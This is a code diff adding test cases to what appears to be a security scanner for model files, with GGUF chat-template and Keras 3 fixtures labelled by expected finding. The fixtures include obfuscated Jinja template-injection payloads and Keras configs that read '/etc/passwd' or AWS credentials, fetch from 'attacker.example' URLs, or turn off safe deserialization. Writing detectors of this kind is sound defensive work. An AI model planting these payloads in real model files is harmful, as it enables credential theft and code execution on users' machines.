@@ -48,6 +48,8 @@ final class FormatCases {
     f.lz4();
     f.zfile();
     f.zipStructure();
+    f.ggufTemplates();
+    f.keras();
     return f.cases;
   }
 
@@ -278,5 +280,273 @@ final class FormatCases {
         cat(headBytes, locals, tail, cd, eocd(1, cd.length, cdAt)),
         S,
         "pickle.unknown-call");
+  }
+
+  // ---------------------------------------------------------------- GGUF chat templates
+
+  private static byte[] gguf(String template) {
+    return new Containers.Gguf(0, 2)
+        .kvString("general.architecture", "llama")
+        .kvString("tokenizer.chat_template", template)
+        .bytes();
+  }
+
+  /** Templates that reach Python internals without a literal '__' or 'globals'. */
+  private void ggufTemplates() {
+    String loop = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
+    add(
+        "gguf_tpl_concat_name.gguf",
+        gguf(loop + "{{ ()|attr('_' ~ '_cla' ~ 'ss_' ~ '_') }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_join_name.gguf",
+        gguf("{{ ()|attr(['_','_','class','_','_']|join) }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_set_variable.gguf",
+        gguf("{% set u = '_' %}{% set n = u ~ u ~ 'init' ~ u ~ u %}{{ cycler[n] }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_percent_format.gguf",
+        gguf("{{ ()|attr('%c%cclass%c%c' % (95,95,95,95)) }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_reverse.gguf",
+        gguf("{{ ()|attr('__ssalc__'|reverse) }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_unicode_escape.gguf",
+        gguf("{{ x['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_str_format_field.gguf",
+        gguf("{{ ('{0.' ~ '_' ~ '_class_' ~ '_}').format(x) }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_map_attribute.gguf",
+        gguf("{{ messages|map(attribute='_' * 2 ~ 'class' ~ '_' * 2)|list }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_block_set.gguf",
+        gguf("{% set n %}_{{ '' }}_class__{% endset %}{{ ()[n] }}"),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_python_generator.gguf",
+        gguf("{{ (x for x in y).gi_frame.f_back }}"),
+        I,
+        "scan.unreadable");
+    add("gguf_tpl_lookinside_global.gguf", gguf("{{ lipsum['x'] }}"), M, "gguf.template-injection");
+    add(
+        "gguf_tpl_include.gguf",
+        gguf(loop + "{% include '/etc/passwd' %}"),
+        S,
+        "gguf.template-injection");
+    add("gguf_tpl_unparseable.gguf", gguf("{{ messages[0] "), I, "scan.unreadable");
+    add(
+        "gguf_tpl_second_template.gguf",
+        new Containers.Gguf(0, 2)
+            .kvString("tokenizer.chat_template", loop)
+            .kvString("tokenizer.chat_template.tool_use", "{{ ''.__class__ }}")
+            .bytes(),
+        M,
+        "gguf.template-injection");
+    add(
+        "gguf_tpl_llama3_benign.gguf",
+        gguf(
+            "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"),
+        C,
+        "");
+  }
+
+  // ---------------------------------------------------------------- Keras 3
+
+  private static byte[] keras(String config, int method) {
+    return zip(
+        entry("metadata.json", "{\"keras_version\": \"3.10.0\"}".getBytes(StandardCharsets.UTF_8)),
+        // zip's LZMA as zipfile writes it: with an end marker (flag bit 1)
+        entry("config.json", config.getBytes(StandardCharsets.UTF_8))
+            .method(method)
+            .flags(method == 14 ? 2 : 0),
+        entry("model.weights.h5", AdversarialCorpus.hdf5With("")));
+  }
+
+  private static String layer(String cls, String config) {
+    return "{\"module\": \"keras.layers\", \"class_name\": \""
+        + cls
+        + "\", \"config\": "
+        + config
+        + ", \"registered_name\": null}";
+  }
+
+  private static String sequential(String... layers) {
+    return "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"s\", \"layers\": ["
+        + String.join(", ", layers)
+        + "]}, \"registered_name\": null}";
+  }
+
+  private static String function(String module, String name) {
+    return "{\"module\": \""
+        + module
+        + "\", \"class_name\": \"function\", \"config\": \""
+        + name
+        + "\", \"registered_name\": \"function\"}";
+  }
+
+  private static final String LAMBDA_CODE =
+      layer(
+          "Lambda",
+          "{\"name\": \"l\", \"function\": {\"class_name\": \"__lambda__\", \"config\": {\"code\": \"4wEAAAAAAAAA\", \"defaults\": null, \"closure\": null}}}");
+
+  private void keras() {
+    String e = "keras.external-file";
+    add(
+        "keras_stringlookup_vocab_path.keras",
+        keras(
+            sequential(
+                layer(
+                    "StringLookup",
+                    "{\"name\": \"v\", \"vocabulary\": \"/home/user/.aws/credentials\"}")),
+            8),
+        S,
+        e);
+    add(
+        "keras_textvectorization_gs.keras",
+        keras(
+            sequential(
+                layer(
+                    "TextVectorization",
+                    "{\"name\": \"t\", \"vocabulary\": \"gs://attacker-bucket/vocab.txt\"}")),
+            8),
+        S,
+        e);
+    add(
+        "keras_integerlookup_url.h5",
+        AdversarialCorpus.hdf5With(
+            "{\"class_name\": \"Sequential\", \"config\": {\"layers\": [{\"class_name\":"
+                + " \"IntegerLookup\", \"config\": {\"name\": \"i\", \"vocabulary\":"
+                + " \"https://attacker.example/v.txt\"}}]}}"),
+        S,
+        e);
+    add(
+        "keras_tfsmlayer.keras",
+        keras(
+            sequential(
+                layer(
+                    "TFSMLayer",
+                    "{\"name\": \"t\", \"filepath\": \"/tmp/downloaded_savedmodel\", \"call_endpoint\": \"serve\"}")),
+            8),
+        S,
+        e);
+    add(
+        "keras_hub_tokenizer_proto.keras",
+        keras(
+            sequential(
+                "{\"module\": \"keras_hub.src.tokenizers.sentence_piece_tokenizer\", \"class_name\": \"SentencePieceTokenizer\", \"config\": {\"proto\": \"/etc/passwd\"}, \"registered_name\": \"keras_hub>SentencePieceTokenizer\"}"),
+            8),
+        S,
+        e);
+    add(
+        "keras_origin_url.keras",
+        keras(
+            sequential(
+                layer(
+                    "Dense",
+                    "{\"name\": \"d\", \"units\": 1, \"origin\": \"https://attacker.example/payload.tar.gz\"}")),
+            8),
+        S,
+        e);
+    String u = "keras.unsafe-function";
+    // CVE-2025-9906: a Lambda calling keras.models.load_model on a second file, safe mode off
+    add(
+        "keras_lambda_load_model.keras",
+        keras(
+            sequential(
+                layer(
+                    "Lambda",
+                    "{\"name\": \"x\", \"function\": "
+                        + function("keras.models", "load_model")
+                        + ", \"arguments\": {\"safe_mode\": false}}")),
+            8),
+        M,
+        u);
+    add(
+        "keras_enable_unsafe.keras",
+        keras(
+            sequential(
+                layer(
+                    "Lambda",
+                    "{\"name\": \"x\", \"function\": "
+                        + function("keras.config", "enable_unsafe_deserialization")
+                        + "}")),
+            8),
+        M,
+        u);
+    // CVE-2025-8747: keras.utils.get_file reached from a config
+    add(
+        "keras_get_file_function.keras",
+        keras(
+            sequential(
+                layer(
+                    "Lambda",
+                    "{\"name\": \"x\", \"function\": "
+                        + function("keras.utils", "get_file")
+                        + ", \"arguments\": {\"origin\": \"https://attacker.example/x\"}}")),
+            8),
+        M,
+        u);
+    String l = "keras.lambda-code";
+    add(
+        "keras_lambda_in_timedistributed.keras",
+        keras(
+            sequential(
+                layer("TimeDistributed", "{\"name\": \"td\", \"layer\": " + LAMBDA_CODE + "}")),
+            8),
+        M,
+        l);
+    add(
+        "keras_lambda_in_bidirectional.keras",
+        keras(
+            sequential(
+                layer(
+                    "Bidirectional",
+                    "{\"name\": \"b\", \"layer\": "
+                        + LAMBDA_CODE
+                        + ", \"backward_layer\": "
+                        + layer("LSTM", "{\"units\": 2}")
+                        + "}")),
+            8),
+        M,
+        l);
+    add(
+        "keras_lambda_in_nested_sequential.keras",
+        keras(
+            "{\"module\": \"keras\", \"class_name\": \"Functional\", \"config\": {\"layers\": ["
+                + sequential(LAMBDA_CODE)
+                + "]}}",
+            8),
+        M,
+        l);
+    add("keras_config_bzip2_lambda.keras", keras(sequential(LAMBDA_CODE), 12), M, l);
+    add("keras_config_lzma_lambda.keras", keras(sequential(LAMBDA_CODE), 14), M, l);
+    add(
+        "keras_stringlookup_inline_benign.keras",
+        keras(
+            sequential(
+                layer("StringLookup", "{\"name\": \"v\", \"vocabulary\": [\"a\", \"b\"]}"),
+                layer(
+                    "TimeDistributed",
+                    "{\"name\": \"td\", \"layer\": " + layer("Dense", "{\"units\": 2}") + "}")),
+            12),
+        C,
+        "");
   }
 }
